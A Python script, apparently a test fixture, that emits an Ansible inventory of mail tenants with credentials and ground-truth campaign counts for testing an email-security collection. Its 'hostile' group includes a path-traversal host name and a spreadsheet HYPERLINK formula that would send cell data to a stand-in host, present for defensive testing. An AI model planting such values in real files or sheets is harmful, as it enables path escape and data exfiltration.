# Copyright: Contributors to the emailsec.tracking collection
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
"""An inventory of mail tenants, one host each, with its credentials as host variables (as a vault would hold them).

tenant-c's TMES key is wrong; tenant-b has no Mimecast settings (the job's environment must not stand in for
them). The group ``hostile`` holds hosts with names that are not file names (both use tenant-a's account).
"""

import json
import os
import sys

directory = sys.argv[1]
hosts = {}


def settings(tenant, wrong_tmes=False, mimecast=True):
    info = json.load(open(os.path.join(directory, "tenant-%s.vars.json" % tenant)))["sb"]
    host = {
        "ansible_python_interpreter": sys.executable,
        "message_trace_tmes": {"api_url": info["url"], "username": info["tmes"]["username"],
                               "api_key": info["tmes"]["api_key"] + ("-wrong" if wrong_tmes else "")},
        "ground_truth": {"tmes": info["campaign"]["tmes_count"], "mimecast": info["campaign"]["mimecast_count"],
                         "domain": info["campaign"]["sender_domain"]},
    }
    if mimecast:
        host["message_trace_mimecast"] = {"base_url": info["url"], "client_id": info["mimecast"]["client_id"],
                                          "client_secret": info["mimecast"]["client_secret"]}
    return host


for tenant in "abcde":
    hosts["tenant-" + tenant] = settings(tenant, wrong_tmes=tenant == "c", mimecast=tenant != "b")
hostile = {name: settings("a") for name in ("../../escaped", '=HYPERLINK("http://x.example/?"&A1,"open")')}
print(json.dumps({"tenants": {"hosts": hosts}, "hostile": {"hosts": hostile}, "all": {"hosts": {"localhost": {
    "ansible_connection": "local", "ansible_python_interpreter": sys.executable}}}}, indent=1))
